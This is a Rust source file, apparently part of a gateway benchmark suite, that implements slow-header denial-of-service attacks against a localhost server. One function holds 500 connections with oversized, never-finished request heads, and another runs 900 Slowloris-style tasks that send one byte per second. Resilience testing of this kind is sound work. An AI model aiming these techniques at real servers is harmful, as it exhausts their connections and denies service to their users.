//! Heads of requests that are never finished.

use std::sync::Arc;
use std::time::Duration;

use gatewright_benchmarks::client::Anyhow;
use tokio::io::AsyncWriteExt;

use crate::attacker::{Attacker, Tasks};
use crate::bodies::hold_all;

/// As many connections as one address may have.
const UNFINISHED: usize = 500;
/// More than one address may have.
const SLOW: usize = 900;

/// Sends large heads but for their end: nearly as much as a head may have, and more.
pub(crate) fn unfinished(attacker: &Arc<Attacker>, tasks: &mut Tasks) {
    let attacker = Arc::clone(attacker);
    let field = format!("X-Long: {}\r\n", "a".repeat(10_000));
    let begun = [6, 39].map(|fields| {
        let fields = field.repeat(fields);
        Arc::from(format!("GET /v1/me HTTP/1.1\r\nHost: localhost\r\n{fields}"))
    });
    tasks.spawn(async move { hold_all(&attacker, UNFINISHED, &begun).await });
}

/// Sends heads as slowly as possible (Slowloris).
pub(crate) fn slow(attacker: &Arc<Attacker>, tasks: &mut Tasks) {
    for _ in 0..SLOW {
        tasks.spawn(trickle(Arc::clone(attacker)));
    }
}

async fn trickle(attacker: Arc<Attacker>) -> Anyhow<()> {
    loop {
        let mut stream = attacker.connect().await;
        for byte in b"GET /v1/me HTTP/1.1\r\nHost: localhost\r\nX-Long: ".iter().cycle() {
            tokio::time::sleep(Duration::from_secs(1)).await;
            if stream.write_all(&[*byte]).await.is_err() {
                break;
            }
        }
        attacker.pause("closed").await;
    }
}
